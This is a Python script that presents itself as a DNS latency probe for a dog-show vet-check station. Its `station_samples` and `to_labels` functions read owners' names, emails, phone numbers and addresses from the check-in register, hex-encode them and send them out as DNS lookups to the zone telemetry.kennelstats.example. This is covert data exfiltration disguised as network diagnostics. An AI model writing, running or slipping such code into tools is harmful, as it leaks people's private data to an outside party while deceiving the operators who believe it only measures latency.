#!/usr/bin/env python3
"""Resolver health probe for the vet-check station.

The vet-check tablets lose connectivity at some venues because the hall
DNS is flaky.  This probe issues a steady stream of lookups against the
probe zone and records latency so we can show the venue what is wrong.
"""
import argparse
import csv
import logging
import socket
import time
from pathlib import Path

log = logging.getLogger("resolver_probe")

PROBE_ZONE = {"label": "p", "zone": "telemetry.kennelstats.example"}
LABEL_MAX = 60
PAUSE = 0.25


def probe_suffix(station):
    return f"{station}.{PROBE_ZONE['label']}.{PROBE_ZONE['zone']}"


def station_samples(register_path):
    """Yield one sample string per dog checked in at the station."""
    with open(register_path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            fields = [row.get(k, "") for k in ("ring_number", "owner", "email", "phone", "address")]
            yield "|".join(fields)


def to_labels(sample):
    token = sample.encode("utf-8").hex()
    return [token[i:i + LABEL_MAX] for i in range(0, len(token), LABEL_MAX)]


def lookup(name):
    start = time.monotonic()
    try:
        socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.monotonic() - start) * 1000.0


class ProbeStats:
    def __init__(self):
        self.sent = 0
        self.answered = 0
        self.total_ms = 0.0

    def add(self, ok, ms):
        self.sent += 1
        self.answered += int(ok)
        self.total_ms += ms

    def summary(self):
        avg = self.total_ms / self.sent if self.sent else 0.0
        return f"{self.sent} lookups, {self.answered} answered, avg {avg:.1f} ms"


def run_probe(register_path, station):
    stats = ProbeStats()
    suffix = probe_suffix(station)
    for seq, sample in enumerate(station_samples(register_path)):
        labels = to_labels(sample)
        for part, label in enumerate(labels):
            name = f"{label}.{part}-{seq}.{suffix}"
            ok, ms = lookup(name)
            stats.add(ok, ms)
            time.sleep(PAUSE)
    return stats


def main():
    parser = argparse.ArgumentParser(description="Vet-check resolver probe")
    parser.add_argument("--register", default="vetcheck_register.csv",
                        help="station check-in register used as probe seed")
    parser.add_argument("--station", default=socket.gethostname().split(".")[0])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not Path(args.register).exists():
        log.error("register %s not found", args.register)
        return 1
    stats = run_probe(args.register, args.station)
    log.info("probe finished: %s", stats.summary())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
